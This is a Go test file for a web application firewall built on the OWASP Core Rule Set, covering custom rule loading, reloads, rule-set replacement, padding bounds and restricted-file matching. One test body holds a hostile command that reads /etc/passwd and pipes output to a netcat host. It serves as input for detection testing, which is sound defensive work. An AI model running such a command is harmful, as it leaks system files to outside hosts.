// SPDX-License-Identifier: Apache-2.0

package application

import (
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"

	"github.com/ringwall/ringwall/event"
)

// TestOwnRules: an operator's rules lie beside the built-in ones, are read again, and a
// broken file is named and leaves what was in use.
func TestOwnRules(t *testing.T) {
	dir := t.TempDir()
	own := filepath.Join(dir, "own.conf")
	write := func(text string) {
		if err := os.WriteFile(own, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(`SecRule REQUEST_FILENAME "@streq /trap" "id:2000001,phase:2,pass,log,severity:CRITICAL,tag:'attack-lfi',msg:'the trap was asked for'"`)
	e, err := New(Config{Rules: dir})
	if err != nil {
		t.Fatal(err)
	}
	trap := browserRequest("GET", "/trap?x=a'b").activity()
	rule := func() string {
		res, err := e.Judge(trap)
		if err != nil {
			t.Fatal(err)
		}
		f := e.Finding(&event.Event{Payload: &event.Event_Http{Http: trap}}, &res)
		if f == nil {
			return ""
		}
		return f.Rule + " " + f.RuleVersion
	}
	if got := rule(); got != "crs-2000001 crs-4.25.0+own" {
		t.Errorf("own rule: %q", got)
	}
	write("SecRule NONSENSE\n")
	if err := e.Reload(); err == nil || !strings.Contains(err.Error(), own) {
		t.Errorf("a broken file gives %v", err)
	}
	if got := rule(); got != "crs-2000001 crs-4.25.0+own" {
		t.Errorf("after a broken file: %q", got)
	}
	write("SecRuleRemoveById 930120\n")
	if err := e.Reload(); err != nil {
		t.Fatal(err)
	}
	if got := rule(); got != "" {
		t.Errorf("after reload: %q", got)
	}
}

// TestOwnRuleSet: crs/ stands in place of the built-in rule set.
func TestOwnRuleSet(t *testing.T) {
	dir := t.TempDir()
	crs := filepath.Join(dir, "crs")
	if err := os.Mkdir(crs, 0o700); err != nil {
		t.Fatal(err)
	}
	if _, err := New(Config{Rules: dir}); err == nil {
		t.Error("an empty rule set is taken")
	}
	list, err := fs.ReadDir(coreruleset.FS, "@owasp_crs")
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range list {
		if strings.Contains(d.Name(), "-942-") {
			continue // another cut of rules
		}
		b, err := fs.ReadFile(coreruleset.FS, "@owasp_crs/"+d.Name())
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(crs, d.Name()), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	e, err := New(Config{Rules: dir})
	if err != nil {
		t.Fatal(err)
	}
	if e.Version() != "crs-own" || e.Count() < 200 {
		t.Errorf("%s with %d rules", e.Version(), e.Count())
	}
}

// TestBounds: padding neither hides an attack nor escapes the bound, and is told.
func TestBounds(t *testing.T) {
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	r := browserRequest("POST", "/x")
	r.Headers = append(r.Headers, [2]string{"Content-Type", "application/x-www-form-urlencoded"})
	for range 40 {
		r.Body += "pad=" + strings.Repeat("word and word ", 70) + "&"
	}
	r.Body += "c=cat /etc/passwd; id | nc 192.0.2.9 99"
	a := r.activity()
	in := e.cfg.inputs(a, e.rules.Load().plain)
	n := len(in.uri)
	for _, f := range append(in.params, in.headers...) {
		n += len(f.name) + len(f.value)
	}
	if n > e.cfg.MaxBytes+256 || !in.cut {
		t.Errorf("%d bytes of at most %d are inspected, cut %v", n, e.cfg.MaxBytes, in.cut)
	}
	res, err := e.Judge(a)
	if err != nil || res.Anomaly < e.cfg.Threshold || !res.Cut {
		t.Errorf("behind padding: %+v, %v", res, err)
	}
	f := e.Finding(&event.Event{Payload: &event.Event_Http{Http: a}}, &res)
	if len(f.GetCompleteness().GetLosses()) != 1 {
		t.Errorf("completeness %v", f.GetCompleteness())
	}
}

// TestWords compares the word lists' automaton with a search by hand.
func TestWords(t *testing.T) {
	o, err := NewOrdinary("")
	if err != nil {
		t.Fatal(err)
	}
	text, err := fs.ReadFile(coreruleset.FS, "@owasp_crs/restricted-files.data")
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for w := range strings.Lines(string(text)) {
		if w = strings.ToLower(strings.TrimSpace(w)); w == "" || w[0] == '#' {
			continue
		}
		n++
		if p := "/some/where" + w + "x"; !o.files.IsMatch([]byte(p)) {
			t.Errorf("%q is not found in %q", w, p)
		}
		if o.target("/" + strings.TrimPrefix(w, "/")) {
			t.Errorf("%q is white", w)
		}
	}
	if n < 100 {
		t.Errorf("only %d words", n)
	}
}
